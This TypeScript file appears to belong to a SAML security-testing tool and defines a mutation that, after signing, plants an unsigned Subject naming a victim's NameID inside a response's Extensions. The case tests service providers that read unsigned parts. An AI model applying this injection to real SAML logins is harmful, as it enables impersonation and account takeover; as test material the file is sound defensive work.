import { defineMutation } from '../../model/mutation.ts';
import { NS } from '../../saml/namespaces.ts';
import { escapeXml } from '../kit/edit.ts';
import { intoExtensions } from './_envelope.ts';

export default defineMutation({
  id: 'structure/name-in-extensions',
  title: 'The Extensions hold a Subject about the victim',
  stage: 'after-signing',
  change: {
    on: 'response',
    apply: (xml, { victim }) => {
      const nameId = `<saml:NameID>${escapeXml(victim.nameId)}</saml:NameID>`;
      return intoExtensions(xml, `<saml:Subject xmlns:saml="${NS.saml}">${nameId}</saml:Subject>`);
    },
  },
  breaks: ['response/extensions'],
  hostile: true,
  safe: 'genuine-user',
  refs: [
    {
      document: 'saml-core',
      section: '3.2.2',
      says: 'Extensions are what sender and receiver agreed on; who does not know them ignores them.',
    },
  ],
  attack: {
    against: 'sp',
    mechanism: 'A search for the NameID anywhere in the message finds the one that nobody signed first.',
    weakness: ['unsigned-parts-read'],
    needs: ['signed-assertion'],
  },
});
